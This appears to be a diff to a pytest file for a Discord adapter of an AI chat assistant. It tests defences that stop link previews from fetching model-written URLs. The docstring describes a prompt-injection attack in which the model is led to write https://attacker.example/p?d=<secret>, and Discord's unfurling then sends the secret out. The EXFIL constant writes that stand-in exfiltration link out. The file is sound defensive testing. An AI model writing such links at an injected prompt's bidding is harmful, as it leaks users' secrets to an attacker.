@@ -3,7 +3,12 @@ message shows it, so a prompt injection that had the model write
 https://attacker.example/p?d=<a secret from the context> got the secret with no one clicking.
 The answer's messages are now sent with embeds suppressed (the SUPPRESS_EMBEDS flag, kept
 through every edit), unless `[discord] link_previews` turns them back on. The stand-in keeps
-each message's flags and unfurls what Discord would (`FakeDiscordApi.unfurled`)."""
+each message's flags and unfurls what Discord would (`FakeDiscordApi.unfurled`).
+
+A slash command's deferred response cannot be flagged through discord.py's public API, and
+was unfurled as its first edit showed the link: every link outside code is now also written
+in angle brackets (<https://...>, [text](<https://...>)), which Discord shows with no embed;
+the stand-in leaves such links alone as Discord does."""
 
 from __future__ import annotations
 
@@ -14,8 +19,10 @@ import pytest
 pytest.importorskip("discord")
 pytest.importorskip("websockets")
 
+from adapters.discord.stream import MAX_MESSAGE, neutralise
 from tests import discord_events as ev
 from tests.adapter_harness import discord_harness
+from tests.discord_api import unfurlable
 from tests.doubles import ScriptedBackend
 
 EXFIL = "https://attacker.example/p?d=s3cret"
@@ -39,7 +46,7 @@ async def test_an_answers_messages_and_edits_embed_no_link(tmp_path: Path, where
 async def test_a_slash_commands_follow_ups_embed_no_link(tmp_path: Path) -> None:
     """The pieces past the deferred response go as follow-ups (the interaction's webhook),
     flagged too. The deferred response itself cannot be flagged with discord.py's public API
-    (docs/security.md)."""
+    (test_a_slash_commands_deferred_response_embeds_no_link)."""
     async with discord_harness(tmp_path, ScriptedBackend(lambda r: ANSWER)) as h:
         slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
         await h.command(slash)
@@ -56,3 +63,65 @@ async def test_link_previews_can_be_turned_back_on(tmp_path: Path) -> None:
         await h.idle()
         assert EXFIL in h.api.unfurled
         assert not any(h.api.suppressed(ev.DM))
+
+
+async def test_a_slash_commands_deferred_response_embeds_no_link(tmp_path: Path) -> None:
+    """The "thinking..." message, edited as the answer streams in, has no flag: its links are
+    written in angle brackets from its first edit on, so none is unfurled."""
+    backend = ScriptedBackend(lambda r: ANSWER, delay=lambda: 0.004)  # a model's pace
+    async with discord_harness(tmp_path, backend) as h:
+        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
+        await h.command(slash)
+        await h.idle()
+        assert h.api.unfurled == []
+        original = [c for c in h.api.writes(ev.DM) if c.path.endswith("/@original")]
+        assert len(original) >= 2  # edited as it grew, the link in the first edits already
+        shown = h.api.texts(ev.DM)
+        assert shown[0].startswith(f"It is on [the statement](<{EXFIL}>).")
+        assert shown[-1].endswith(f"Or <{EXFIL}&r=1> .")
+        assert h.api.suppressed(ev.DM)[0] is False  # the brackets do it, not a flag
+
+
+async def test_pieces_full_of_links_stay_within_discords_limit(tmp_path: Path) -> None:
+    """Each link gains two characters as sent: the split counts them, so no message is
+    refused for its length (which would cut the answer)."""
+    links = " ".join(f"https://docs.example/page/{i:04}" for i in range(200))  # ~6,400
+    async with discord_harness(tmp_path, ScriptedBackend(lambda r: links)) as h:
+        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
+        await h.command(slash)
+        await h.idle()
+        writes = h.api.writes(ev.DM)
+        assert all(c.status != 400 for c in writes)
+        assert all(len(c.body["content"]) <= MAX_MESSAGE for c in writes if "content" in c.body)
+        shown = h.api.texts(ev.DM)
+        assert len(shown) >= 3 and max(len(t) for t in shown) > MAX_MESSAGE - 40  # full
+        assert " ".join(shown).replace("<", "").replace(">", "") == links  # nothing lost
+        assert h.api.unfurled == []
+
+
+@pytest.mark.parametrize(
+    ("written", "sent"),
+    [
+        ("See https://a.example/x.", "See <https://a.example/x>."),
+        ("(see https://a.example/x), then", "(see <https://a.example/x>), then"),
+        (
+            "https://en.wikipedia.org/wiki/Tea_(drink).",
+            "<https://en.wikipedia.org/wiki/Tea_(drink)>.",
+        ),
+        (
+            "[the statement](https://a.example/p?d=1).",
+            "[the statement](<https://a.example/p?d=1>).",
+        ),
+        ("[wiki](https://w.example/Tea_(drink))s", "[wiki](<https://w.example/Tea_(drink)>)s"),
+        ('[t](https://a.example "title")', '[t](<https://a.example> "title")'),
+        ("**https://a.example/x**", "**<https://a.example/x>**"),
+        ("HTTPS://A.EXAMPLE/p>?d=1", "<HTTPS://A.EXAMPLE/p%3E?d=1>"),
+        ("Already <https://a.example/x> and [t](<https://a.example/y>).",) * 2,
+        ("Still streaming <https://a.example/p?d=se", "Still streaming <https://a.example/p?d=se>"),
+        ("`curl https://a.example/x` and\n```\nhttps://a.example/y\n```",) * 2,
+        ("@everyone: https://a.example/@here", "@\u200beveryone: <https://a.example/@here>"),
+    ],
+)
+def test_links_are_written_as_discord_shows_them_without_an_embed(written: str, sent: str) -> None:
+    assert neutralise(written, bracket_links=True) == sent
+    assert unfurlable(sent) == []
